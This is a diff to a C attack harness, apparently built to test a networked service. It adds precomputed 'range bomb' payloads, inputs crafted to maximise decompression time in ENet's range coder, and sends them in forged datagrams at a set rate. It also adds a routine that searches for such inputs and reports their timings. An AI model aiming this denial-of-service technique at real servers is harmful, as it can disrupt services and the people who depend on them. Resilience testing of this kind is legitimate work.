@@ -1,5 +1,6 @@
 #include "attack/plain_attacks.h"
 
+#include "attack/range_bomb.h"
 #include "host/host.h"
 
 #include <netinet/in.h>
@@ -56,14 +57,16 @@ static size_t fill_connect(uint8_t *data)
     return sizeof connect;
 }
 
-/* Random bytes are among what the range coder takes longest for. */
+enum { FOR_ENET, FOR_US, BOMBS };
+static uint8_t bombs[BOMBS][RANGE_BOMB];
+
+/* The worst for ENet, which decompresses all of a stranger's datagram, and for who stops after a CONNECT, in turn. */
 static size_t fill_bomb(uint8_t *data)
 {
-    enum { LENGTH = 1355 };
-    for (size_t i = 4; i < LENGTH; i++)
-        data[i] = (uint8_t) next_random();
+    static unsigned number;
     memcpy(data, (const uint8_t[]) {0xcf, 0xff, 0, 0}, 4);
-    return LENGTH;
+    memcpy(data + 4, bombs[number++ % BOMBS], RANGE_BOMB);
+    return 4 + RANGE_BOMB;
 }
 
 static int forge(size_t (*fill)(uint8_t *), unsigned rate, unsigned seconds)
@@ -204,6 +207,16 @@ static int press(void (*add_one)(unsigned), unsigned rate, unsigned seconds)
         usleep(1000000 / STEPS);
     }
     return 0;
+}
+
+void attack_prepare(const char *name)
+{
+    if (strcmp(name, "range-bombs") != 0)
+        return;
+    uint64_t whole = range_bomb(bombs[FOR_ENET], MAXIMUM), start = range_bomb(bombs[FOR_US], E4J_STRANGER_COMMANDS);
+    printf("found: %.0f us to decompress all of a datagram, %.1f us for %d bytes of one\n", (double) whole / 1000,
+           (double) start / 1000, E4J_STRANGER_COMMANDS);
+    fflush(stdout);
 }
 
 int attack_run(const char *name, unsigned rate, unsigned seconds)
